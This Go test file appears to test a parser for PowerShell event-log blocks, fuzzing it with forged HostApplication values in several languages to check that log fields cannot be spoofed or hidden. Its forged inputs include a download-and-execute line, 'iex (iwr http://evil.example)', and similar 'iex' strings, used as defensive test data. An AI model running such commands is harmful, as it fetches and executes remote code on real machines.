package powershell

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// contextText writes a block as PowerShell does: of PowerShell/Operational with names of several
// words, of the classic log with a tab.
func contextText(l *Layout, names []string, values map[string]string) string {
	var b strings.Builder
	for i, k := range l.keys {
		if v, ok := values[k.name]; ok || !k.optional {
			if l == Module {
				fmt.Fprintf(&b, "        %s = %s\r\n", names[i], v)
				continue
			}
			if i > 0 {
				b.WriteString("\r\n")
			}
			if k.name == "SequenceNumber" || i > 0 && l.keys[i-1].name == "SequenceNumber" {
				b.WriteString("\r\n")
			}
			fmt.Fprintf(&b, "\t%s=%s", names[i], v)
		}
	}
	return b.String()
}

var moduleNames = map[string][]string{
	"English": {
		"Severity",
		"Host Name",
		"Host Version",
		"Host ID",
		"Host Application",
		"Engine Version",
		"Runspace ID",
		"Pipeline ID",
		"Command Name",
		"Command Type",
		"Script Name",
		"Command Path",
		"Sequence Number",
		"User",
		"Connected User",
		"Shell ID",
	},
	"Spanish": {
		"Gravedad",
		"Nombre de host",
		"Versión de host",
		"Id. de host",
		"Aplicación host",
		"Versión del motor",
		"Id. de espacio de ejecución",
		"Id. de canalización",
		"Nombre de comando",
		"Tipo de comando",
		"Nombre de script",
		"Ruta de acceso de comando",
		"Número de secuencia",
		"Usuario",
		"Usuario conectado",
		"Id. de shell",
	},
	"Japanese": {"重要度", "ホスト名", "ホストのバージョン", "ホスト ID", "ホスト アプリケーション", "エンジンのバージョン", "実行空間 ID", "パイプライン ID",
		"コマンド名", "コマンドの種類", "スクリプト名", "コマンド パス", "シーケンス番号", "ユーザー", "接続されたユーザー", "シェル ID"},
}

// contexts are the blocks of all events, with the names of their keys.
func contexts() map[string]struct {
	layout *Layout
	names  []string
} {
	out := map[string]struct {
		layout *Layout
		names  []string
	}{}
	for name, l := range map[string]*Layout{"400": Engine, "600": Provider, "800": Pipeline} {
		names := make([]string, len(l.keys))
		for i := range l.keys {
			names[i] = l.keys[i].name
		}
		out[name] = struct {
			layout *Layout
			names  []string
		}{l, names}
	}
	for language, names := range moduleNames {
		out["4103 "+language] = struct {
			layout *Layout
			names  []string
		}{Module, names}
	}
	return out
}

// genuine are the values of a block's keys; those of versions that lack a key are without it.
func genuine(l *Layout, version string) map[string]string {
	all := map[string]string{
		"Severity": "Informational", "NewEngineState": "Available", "PreviousEngineState": "None",
		"ProviderName": "Registry", "NewProviderState": "Started",
		"DetailSequence": "1", "DetailTotal": "1", "SequenceNumber": "16", "UserId": `CORP\anna`,
		"HostName": "ConsoleHost", "HostVersion": version,
		"HostId": "cd8cafb9-7c03-4e5e-9d54-914780550df1", "HostApplication": "powershell.exe", "EngineVersion": version,
		"RunspaceId": "d94c9947-fce3-4f7e-9a49-18ff6724f22b", "PipelineId": "156", "CommandName": "Get-Item",
		"CommandType": "Cmdlet", "ScriptName": `C:\t\x.ps1`,
		"CommandPath": "", "CommandLine": "Get-Item a", "User": `CORP\anna`, "ConnectedUser": "",
		"ShellId": "Microsoft.PowerShell",
	}
	out := map[string]string{}
	for _, k := range l.keys {
		if !k.optional || k.name == "HostApplication" || version >= "5" {
			out[k.name] = all[k.name]
		}
	}
	return out
}

// blockValues are what a reading gives to the keys.
func blockValues(b *Block) map[string]string {
	out := map[string]string{}
	for i, k := range b.layout.keys {
		if b.chosen[i] >= 0 {
			out[k.name] = string(b.valueOf(b.chosen[i]))
		}
	}
	return out
}

func ambiguousKeys(b *Block) []string { return slices.Collect(b.Ambiguous()) }

// drawForged draws a text that somebody made who knows the block: line breaks of all kinds, lines
// like its own, whole blocks.
func drawForged(t *rapid.T, l *Layout, names []string, label string) string {
	pieces := []string{
		"\r\n",
		"\n",
		"\r",
		"\t",
		"\u2028",
		"\v",
		" ",
		"=",
		"}",
		"iex (iwr http://evil.example)",
		"        ",
		"\x85",
	}
	for i := range l.keys {
		pieces = append(pieces, "\r\n\t"+names[i]+"=forged", "\r\n        "+names[i]+" = forged", names[i]+" = 1\n")
	}
	forged := map[string]string{}
	for _, k := range l.keys {
		forged[k.name] = "forged"
	}
	whole := contextText(l, names, forged)
	cut := strings.Index(whole, names[l.pivot+1])
	pieces = append(pieces, whole, "x\r\n\t"+whole[cut:], whole[:cut])
	return "x" + strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 12).Draw(t, label), "") + "y"
}

func TestTheCommandLineOfAHostForgesNothingAndHidesNothing(t *testing.T) {
	for name, c := range contexts() {
		for _, version := range []string{"4.0", "5.1.19041.1237"} {
			t.Run(name+" of "+version, rapid.MakeCheck(func(t *rapid.T) {
				values := genuine(c.layout, version)
				values["HostApplication"] = drawForged(t, c.layout, c.names, "HostApplication")
				text := contextText(c.layout, c.names, values)
				for _, text := range []string{text, strings.ReplaceAll(text, "\r\n", "\n")} {
					var b Block
					b.Read(c.layout, []byte(text), []byte(values["CommandLine"]))
					got := blockValues(&b)
					got["HostApplication"], values["HostApplication"] = strings.ReplaceAll(
						got["HostApplication"],
						"\r\n",
						"\n",
					), strings.ReplaceAll(
						values["HostApplication"],
						"\r\n",
						"\n",
					)
					if !maps.Equal(got, values) {
						t.Fatalf("%q\nis read as %q\nwant %q", text, got, values)
					}
				}
			}))
		}
	}
}

func TestWhatIsReadWronglyIsSaidToBeAmbiguous(t *testing.T) {
	for name, c := range contexts() {
		t.Run(name, rapid.MakeCheck(func(t *rapid.T) {
			values := genuine(c.layout, "5.1")
			for _, k := range c.layout.keys {
				local := c.names[0] != "Severity" && c.layout.localized
				if k.free && !(local && k.name == "HostName") && rapid.Bool().Draw(t, k.name+" is forged") {
					values[k.name] = drawForged(t, c.layout, c.names, k.name)
				}
			}
			var b Block
			b.Read(c.layout, []byte(contextText(c.layout, c.names, values)), nil)
			got := blockValues(&b)
			for key, want := range values {
				if got[key] != want && !slices.Contains(ambiguousKeys(&b), key) {
					t.Fatalf(
						"%s is read as %q, not %q, and nothing says that there is another reading (%q)",
						key,
						got[key],
						want,
						ambiguousKeys(&b),
					)
				}
			}
		}))
	}
}

func TestSeveralLinesAloneAreNotAmbiguous(t *testing.T) {
	for name, c := range contexts() {
		values := genuine(c.layout, "5.1")
		for _, line := range []string{
			"powershell.exe -Command & {\r\n    $a = 1\r\n    " + c.names[len(c.names)-3] + " = nobody\r\n    " +
				c.names[c.layout.pivot+1] + " = 99\r\n    iex $a\r\n}",
			"powershell.exe -c \"a=1\r\nb=2\r\n" + c.names[c.layout.pivot+1] + "=9\"",
		} {
			values["HostApplication"] = line
			var b Block
			b.Read(c.layout, []byte(contextText(c.layout, c.names, values)), nil)
			if got := blockValues(&b); !maps.Equal(got, values) || b.ambiguous != 0 {
				t.Errorf("%s: %q\nwant %q\nambiguous %q", name, got, values, ambiguousKeys(&b))
			}
		}
	}
}

// A naive reading: all choices of lines for the keys are tried, and the first in the order that the
// rule gives is taken.
func naiveReadings(l *Layout, text string, how reading) [][]int {
	type line struct{ key, n int }
	var lines []line
	n := 0
	for _, s := range strings.Split(text, "\n") {
		if strings.TrimSpace(s) == "" {
			continue
		}
		if name, _, ok := strings.Cut(s, "="); ok {
			for k := range l.keys {
				if strings.TrimSpace(name) == l.keys[k].name {
					lines = append(lines, line{k, n})
				}
			}
		}
		n++
	}
	wanted := []int{}
	for k := range l.keys {
		if how == readWhole || !l.keys[k].optional {
			wanted = append(wanted, k)
		}
	}
	var out [][]int
	var try func(path []int, i, after int)
	try = func(path []int, i, after int) {
		if i == len(wanted) {
			if last := l.keys[wanted[i-1]]; last.free || path[i-1] == n-1 {
				out = append(out, slices.Clone(path))
			}
			return
		}
		for _, c := range lines {
			switch {
			case c.key != wanted[i] || c.n < after,
				i == 0 && c.n != 0,
				i > 0 && !l.keys[wanted[i-1]].free && c.n != after:
				continue
			}
			try(append(path, c.n), i+1, c.n+1)
		}
	}
	try(nil, 0, 0)
	pivot := slices.Index(wanted, l.pivot)
	slices.SortFunc(out, func(a, b []int) int {
		for i := len(a) - 1; i >= 0; i-- {
			if a[i] != b[i] && i > pivot {
				return b[i] - a[i]
			}
			if a[i] != b[i] {
				return a[i] - b[i]
			}
		}
		return 0
	})
	return out
}

func TestReadingsAreThoseOfANaiveReader(t *testing.T) {
	small := layoutOf("A N* B HostApplication* C D? E* F G*")
	closed := layoutOf("A HostApplication*? C N* U W?")
	for _, l := range []*Layout{small, closed} {
		var lines []string
		for _, k := range l.keys {
			lines = append(lines, k.name+"=1", k.name+"=1", "\t"+k.name+" = 2")
		}
		lines = append(lines, "junk", "")
		whole := func(t *rapid.T) []string {
			var out []string
			for _, k := range l.keys {
				if k.optional && rapid.Bool().Draw(t, "without") {
					continue
				}
				out = append(out, k.name+"=v")
				if k.free || rapid.IntRange(0, 9).Draw(t, "junk") == 0 {
					out = append(out, rapid.SliceOfN(rapid.SampledFrom(lines), 0, 4).Draw(t, "in "+k.name)...)
				}
			}
			return out
		}
		rapid.Check(t, func(t *rapid.T) {
			text := strings.Join(whole(t), "\n")
			var want [][]int
			for _, how := range []reading{readWhole, readOlder} {
				if want = naiveReadings(l, text, how); want != nil {
					break
				}
			}
			var b Block
			b.Read(l, []byte(text), nil)
			var got []int
			for k := range l.keys {
				if i := b.chosen[k]; i >= 0 {
					got = append(got, b.lines[i].line)
				}
			}
			if want == nil {
				if !slices.IsSorted(got) {
					t.Fatalf("%q: keys out of order: %v", text, got)
				}
				return
			}
			if !slices.Equal(got, want[0]) || (b.ambiguous != 0) != (len(want) > 1) {
				t.Fatalf(
					"%q: lines %v, ambiguous %q; want %v of %d readings",
					text,
					got,
					ambiguousKeys(&b),
					want[0],
					len(want),
				)
			}
		})
	}
}

func TestBlocksThatAreNotWholeAreStillRead(t *testing.T) {
	for text, want := range map[string]map[string]string{
		"        Severity = Informational\r\n        Host Application = powershell -c {\r\n   User = " +
			"CORP\\nobody\r\n  iex $a\r\n }\r\n        Engine Version = 5.1\r\n        User = CORP\\anna\r\n": {
			"Severity": "Informational", "HostApplication": "powershell -c {\r\n   User = CORP\\nobody\r\n  iex " +
				"$a\r\n }", "EngineVersion": "5.1", "User": `CORP\anna`},
		"Severity = x\nHost Name = ConsoleHost\nA New Key = 7\nHost Application = a\nb\nEngine Version = 5\n" +
			"Another = 8\nShell ID = s\n": {
			"Severity": "x", "HostName": "ConsoleHost\nA New Key = 7",
			"HostApplication": "a\nb\nEngine Version = 5\nAnother = 8", "ShellId": "s"},
		"Host Application = cut off":    {"HostApplication": "cut off"},
		"no block at all\nwith = lines": {},
		"":                              {},
	} {
		var b Block
		b.Read(Module, []byte(text), nil)
		if got := blockValues(&b); !maps.Equal(got, want) {
			t.Errorf("%q is read as %q, want %q", text, got, want)
		}
	}
}

func TestItemsOfAPipelineKeepTheirLineBreaks(t *testing.T) {
	for text, want := range map[string][]string{
		"CommandInvocation(A): \"A\"\r\nParameterBinding(A): name=\"x\"; value=\"1\"\r\n": {`CommandInvocation(A): "A"`,
			`ParameterBinding(A): name="x"; value="1"`},
		"CommandInvocation(A): \"A\"\r\nParameterBinding(A): name=\"x\"; value=\"iex\r\n (iwr b)\r\n" +
			"CommandInvocation(B): \"B\"\r\n": {
			`CommandInvocation(A): "A"`,
			"ParameterBinding(A): name=\"x\"; value=\"iex\r\n (iwr b)\r\nCommandInvocation(B): \"B\""},
		"CommandInvocation(Out-Default): \"Out-Default\"\nパラメーター バインド(Out-Default): 名前=\"InputObject\"; 値=\"a\"": {
			`CommandInvocation(Out-Default): "Out-Default"`, `パラメーター バインド(Out-Default): 名前="InputObject"; 値="a"`},
		"before\nCommandInvocation(A): \"A\"": {"before", `CommandInvocation(A): "A"`},
		"\r\n \r\n":                           nil,
	} {
		var got []string
		for item := range Invocations([]byte(text)) {
			got = append(got, string(item))
		}
		if !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func FuzzBlock(f *testing.F) {
	f.Add([]byte(contextText(Module, moduleNames["English"], genuine(Module, "5.1"))), []byte(nil))
	f.Add([]byte(contextText(Module, moduleNames["Japanese"], genuine(Module, "4.0"))), []byte("x"))
	f.Add([]byte("\tHostApplication=\n=\n\n\tCommandLine=a"), []byte("a"))
	f.Fuzz(func(t *testing.T, text, end []byte) {
		var b Block
		for _, l := range []*Layout{Module, Engine, Pipeline} {
			b.Read(l, text, end)
			at := -1
			for k := range l.keys {
				if b.chosen[k] >= 0 {
					if b.lines[b.chosen[k]].start <= at {
						t.Fatalf("keys out of order in %q", text)
					}
					at = b.lines[b.chosen[k]].start
					b.Value(k)
				}
			}
		}
		for range Invocations(text) {
		}
	})
}
